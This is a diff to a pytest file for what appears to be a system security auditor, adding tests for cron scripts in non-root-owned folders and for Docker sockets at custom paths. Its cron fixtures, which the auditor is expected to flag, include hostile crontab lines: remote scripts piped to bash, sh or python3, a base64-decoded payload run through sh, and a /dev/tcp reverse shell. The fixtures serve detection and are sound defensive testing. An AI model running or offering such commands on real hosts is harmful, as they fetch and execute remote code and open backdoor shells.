@@ -130,6 +130,12 @@ def allow_case(program, name, **params):
     )
 
 
+#: A script that is not there, in a folder that is not root's alone.
+MISSING = PLACES.replace("/opt/job.sh\n/\n@real", "/opt\n/\n@real").replace(
+    "/srv/jobs/job.sh\n/\n@stat", "/opt\n/\n@stat"
+)
+
+
 SOCKETS = ": no: No such file\n\0" * 3
 SOCKET = f"eS\0{SOCKETS}c1b0 0 103 0 0 7 1 root:docker\n\0@end\n"
 INFO = {
@@ -174,6 +180,16 @@ NO_CONTAINERS = (
 )
 NO_RUNTIME = answers("containers", "@others\n@end\n")
 
+
+def own_socket(mode):
+    """Docker listens on a socket of its own choice, too."""
+    return {
+        **CONTAINERS,
+        "own": ("for p in /srv/docker.sock;", f"eS\0{mode} 0 103 0 0 7 1 root:docker\n\0@end\n"),
+        "containers": ("@others", docker(arguments="dockerd\n-H\nunix:///srv/docker.sock")),
+    }
+
+
 CASES = [
     allow_case("/usr/bin/crontab", "/etc/cron"),
     allow_case("/usr/bin/at", "/etc/at"),
@@ -188,6 +204,7 @@ CASES = [
             breaks("cron", "775 0 0|/srv\n", "777 0 0|/srv\n"),
             breaks("cron", "755 0 0|/opt/bin", "1777 0 0|/opt/bin"),
             breaks("cron", "644 0 0|/etc/crontab", "664 0 1000|/etc/crontab"),
+            answers("cron", MISSING.replace("755 0 0|/opt\n", "755 1000 0|/opt\n")),
         ),
         errors=(
             *NO_JOBS,
@@ -201,6 +218,7 @@ CASES = [
         passes=(
             crontab("1 1 * * * root /opt/not/there"),
             breaks("cron", "755 0 0|/srv/jobs\n", "775 0 0|/srv/jobs\n"),
+            answers("cron", MISSING),
         ),
         more=CRON,
     ),
@@ -209,6 +227,8 @@ CASES = [
         fails=(
             crontab("* * * * * bob curl -s http://x/y | bash"),
             crontab("* * * * * root wget -qO- http://x|/bin/sh"),
+            crontab("* * * * * root curl -fsSL http://x | sudo -E bash -"),
+            crontab("* * * * * root wget -qO- http://x | python3"),
             crontab('* * * * * root bash -c "$(curl -fsSL http://x)"'),
             crontab("* * * * * root echo aGk= | base64 -d | sh"),
             crontab("* * * * * root bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
@@ -338,6 +358,25 @@ CASES = [
 
 @pytest.mark.parametrize(("case", "broken", "expected"), rows(CASES))
 def test_verdicts(case, broken, expected):
+    verdict, reason = case.judge(*broken)
+    assert verdict is expected, reason
+
+
+OWN_SOCKET = [
+    Case(
+        test_containers.test_runtime_sockets_are_private,
+        fails=(
+            answers("own", own_socket("c1b6")["own"][1]),
+            breaks("paths", "c1b0 0 103", "c1b6 0 103"),
+        ),
+        errors=(answers("own", CUT), answers("containers", DENIED), answers("daemon", CUT)),
+        more=own_socket("c1b0"),
+    ),
+]
+
+
+@pytest.mark.parametrize(("case", "broken", "expected"), rows(OWN_SOCKET))
+def test_a_socket_of_dockers_own_choice_counts(case, broken, expected):
     verdict, reason = case.judge(*broken)
     assert verdict is expected, reason
 
